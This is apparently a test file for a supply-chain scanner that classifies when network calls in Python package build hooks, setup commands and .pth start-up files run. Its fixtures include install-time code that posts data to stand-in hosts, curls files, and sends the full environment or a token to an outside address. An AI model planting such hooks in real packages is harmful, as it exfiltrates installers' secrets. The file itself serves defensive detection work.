"""When code runs that no import reaches: commands, build hooks, start-up lines, programs started with Python."""

from __future__ import annotations

import io
import tarfile
import zipfile

from depscan.facts.engine import inspect_data
from depscan.facts.fact import Fact

SEND = (
    'import requests\n\ndef {name}(*args, **words):\n    requests.post("https://collect.example.invalid/a", data="x")\n'
)


def _sdist(files: dict[str, str]) -> list[Fact]:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w:gz") as archive:
        for path, text in {"PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1\n", **files}.items():
            info = tarfile.TarInfo(f"demo-1/{path}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return list(inspect_data(held.getvalue(), "demo-1.tar.gz").facts)


def _wheel(files: dict[str, str]) -> list[Fact]:
    held = io.BytesIO()
    metadata = {
        "demo-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1\n",
        "demo-1.dist-info/WHEEL": "a",
    }
    with zipfile.ZipFile(held, "w") as archive:
        for path, text in {**metadata, **files}.items():
            archive.writestr(path, text)
    return list(inspect_data(held.getvalue(), "demo-1-py3-none-any.whl").facts)


def _when(facts: list[Fact], what: str = "net.send") -> set[str]:
    return {fact.when for fact in facts if fact.what == what}


def test_functions_of_a_build_back_end_in_the_tree_run_at_installation() -> None:
    table = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["tools"]\n'
    assert _when(_sdist({"pyproject.toml": table, "tools/backend.py": SEND.format(name="build_wheel")})) == {"install"}


def test_a_function_that_no_build_calls_runs_when_called() -> None:
    table = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["tools"]\n'
    assert _when(_sdist({"pyproject.toml": table, "tools/backend.py": SEND.format(name="publish")})) == {"call"}


def test_methods_of_a_hatch_hook_run_at_installation() -> None:
    table = (
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n'
    )
    hook = (
        "import requests\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\n"
        "class Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n"
        '        requests.post("https://collect.example.invalid/a", data="x")\n'
    )
    assert _when(_sdist({"pyproject.toml": table, "hatch_build.py": hook})) == {"install"}


def test_what_a_start_up_line_imports_runs_at_every_start() -> None:
    files = {"demo.pth": "import demo_start\n", "demo_start.py": SEND.format(name="go") + "\n\ngo()\n"}
    assert "startup" in _when(_wheel(files))


def test_a_function_that_a_start_up_line_calls_runs_at_every_start() -> None:
    files = {"demo.pth": "import demo_start; demo_start.go()\n", "demo_start.py": SEND.format(name="go")}
    assert _when(_wheel(files)) == {"startup"}


def test_an_entry_point_of_a_start_file_runs_at_every_start() -> None:
    files = {"demo.start": "demo_start:go\n", "demo_start.py": SEND.format(name="go")}
    assert _when(_wheel(files)) == {"startup"}


COMMAND = (
    "import requests\nfrom setuptools import Command, setup\n\n\nclass Told(Command):\n    def run(self):\n"
    '        requests.post("https://collect.example.invalid/a", data="x")\n\n\n'
)


def test_a_command_that_an_installer_runs_says_its_name() -> None:
    facts = _sdist({"setup.py": COMMAND + 'setup(name="demo", cmdclass={"egg_info": Told})\n'})
    sent = next(fact for fact in facts if fact.what == "net.send")
    assert (sent.when, "command:egg_info" in sent.guards) == ("install", True)


def test_a_command_that_only_a_developer_runs_is_a_call() -> None:
    assert _when(_sdist({"setup.py": COMMAND + 'setup(name="demo", cmdclass={"upload": Told})\n'})) == {"call"}


def test_a_command_that_another_command_names_runs_at_installation() -> None:
    more = (
        "from setuptools.command.install import install\n\n\nclass Mine(install):\n    def run(self):\n"
        '        self.run_command("extra")\n\n\nsetup(name="demo", cmdclass={"extra": Told, "install": Mine})\n'
    )
    assert _when(_sdist({"setup.py": COMMAND + more})) == {"install"}


def test_a_command_that_a_computed_name_may_mean_runs_at_installation() -> None:
    more = (
        "from setuptools.command.install import install\n\n\nclass Mine(install):\n    def run(self):\n"
        '        self.run_command("ex" + "tra")\n\n\nsetup(name="demo", cmdclass={"extra": Told, "install": Mine})\n'
    )
    assert _when(_sdist({"setup.py": COMMAND + more})) == {"install"}


SCRIPT = (
    'import requests\n\nif __name__ == "__main__":\n    requests.post("https://collect.example.invalid/a", data="x")\n'
)


def test_a_script_that_the_setup_script_starts_runs_at_installation() -> None:
    setup = (
        "import os\nimport subprocess\nimport sys\nfrom setuptools import setup\n\n"
        'subprocess.run([sys.executable, os.path.join(os.path.dirname(__file__), "demo", "after.py")])\n'
        'setup(name="demo", packages=["demo"])\n'
    )
    assert _when(_sdist({"setup.py": setup, "demo/__init__.py": "", "demo/after.py": SCRIPT})) == {"install"}


def test_the_main_part_of_a_module_that_the_setup_script_imports_does_not_run() -> None:
    setup = 'from setuptools import setup\nfrom tool import VERSION\n\nsetup(name="demo", version=VERSION)\n'
    assert _when(_sdist({"setup.py": setup, "tool.py": 'VERSION = "1"\n' + SCRIPT})) == {"call"}


def test_a_build_file_that_nothing_names_does_not_run() -> None:
    script = "#!/bin/sh\ncurl https://files.example.invalid/a\n"
    setup = 'from setuptools import setup\n\nsetup(name="demo", scripts=["deploy.sh"])\n'
    facts = _sdist({"setup.py": setup, "configure": script, "deploy.sh": script})
    assert _when(facts, "net.download") == {"call"}


def test_a_build_file_that_the_setup_script_starts_runs_at_installation() -> None:
    script = "#!/bin/sh\ncurl https://files.example.invalid/a\n"
    setup = 'import os\nfrom setuptools import setup\n\nos.system("./configure")\nsetup(name="demo")\n'
    assert "install" in _when(_sdist({"setup.py": setup, "configure": script}), "net.download")


def test_the_place_where_a_download_is_saved_is_not_told_to_the_server() -> None:
    setup = (
        "import os\nfrom urllib.request import urlretrieve\nfrom setuptools import setup\n\n"
        'urlretrieve("https://files.example.invalid/a.zip", os.path.join(os.environ["DEMO_TOKEN"], "a.zip"))\n'
        'setup(name="demo")\n'
    )
    assert not _when(_sdist({"setup.py": setup}))


def test_a_token_in_the_address_of_a_download_is_told_to_the_server() -> None:
    setup = (
        "import os\nfrom urllib.request import urlretrieve\nfrom setuptools import setup\n\n"
        'urlretrieve("https://files.example.invalid/" + os.environ["DEMO_TOKEN"], "a.zip")\nsetup(name="demo")\n'
    )
    assert _when(_sdist({"setup.py": setup})) == {"install"}


def test_a_request_made_of_the_environment_counts_though_nobody_opens_it() -> None:
    setup = (
        "import os\nimport urllib.request\nfrom urllib.parse import urlencode\nfrom setuptools import setup\n\n"
        'urllib.request.Request("https://collect.example.invalid/", data=urlencode(dict(os.environ)).encode())\n'
        'setup(name="demo")\n'
    )
    assert _when(_sdist({"setup.py": setup})) == {"install"}
